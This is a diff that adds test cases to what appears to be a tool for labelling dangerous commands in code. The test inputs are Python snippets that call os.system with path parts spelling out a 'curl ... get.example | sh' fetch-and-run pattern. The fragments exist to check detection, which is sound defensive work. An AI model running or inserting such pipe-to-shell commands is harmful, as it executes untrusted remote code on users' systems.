@@ -104,3 +104,12 @@ test.each([
   ].join("\n");
   expect(labelled("csharp", code)).toHaveLength(count);
 });
+
+test.each([
+  ['"curl https:", "get.example | sh"', '"curl https:", "get.example | sh"'],
+  ['base, "curl https:", "get.example | sh"', '"curl https:", "get.example | sh"'],
+  ['"curl https:", base, "get.example | sh"', '"curl https:", base, "get.example | sh"'],
+])("the known parts of a path keep their places: Path(%s)", (parts, span) => {
+  const code = `import os\nfrom pathlib import Path\nos.system(Path(${parts}))`;
+  expect(labelled("python", code)).toEqual([span]);
+});
